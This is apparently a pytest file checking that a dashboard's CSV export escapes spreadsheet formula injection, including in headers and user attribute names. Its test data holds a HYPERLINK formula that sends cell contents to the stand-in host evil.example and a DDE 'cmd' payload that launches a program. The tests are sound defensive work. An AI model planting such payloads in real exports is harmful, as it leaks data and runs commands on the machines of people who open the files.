"""Every cell of every export, header included, is text to a spreadsheet, never a formula."""

import csv
import io
import time
from types import MappingProxyType

import pytest

from dashboard.csv_export import csv_rows, spreadsheet_safe
from dashboard.selectors.users import UserFilter, users_keep
from technowiz.types import User

FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("+919812345678", "+919812345678"),  # a phone number stays a number
        ("-12.5", "-12.5"),
        ("plain", "plain"),
    ],
)
def test_a_formula_becomes_text_and_a_number_stays(value, shown):
    assert spreadsheet_safe(value) == shown


def test_the_header_is_guarded_too():
    lines = "".join(csv_rows([FORMULA, "name"], [["=1+1", "Ann"]]))
    header, row = list(csv.reader(io.StringIO(lines.removeprefix("\ufeff"))))
    assert header == ["'" + FORMULA, "name"] and row == ["'=1+1", "Ann"]


@pytest.mark.django_db
def test_an_attribute_named_like_a_formula_is_no_formula_in_the_users_export(agent_client):
    user = User(
        user_id="u1",
        name="Ann",
        channel="web",
        phone=None,
        email=None,
        created_at=None,
        last_active_at=None,
        attributes=MappingProxyType({FORMULA: "=2+2", "city": "Pune"}),
    )
    users_keep(user_filter=UserFilter("city", ("Pune",)), users=[user], fetched_at=time.time())
    response = agent_client.get("/users/export.csv?attribute=city&value=Pune")
    text = b"".join(response.streaming_content).decode().removeprefix("\ufeff")
    header, row = list(csv.reader(io.StringIO(text)))
    assert "'" + FORMULA in header and FORMULA not in header
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in header + row)
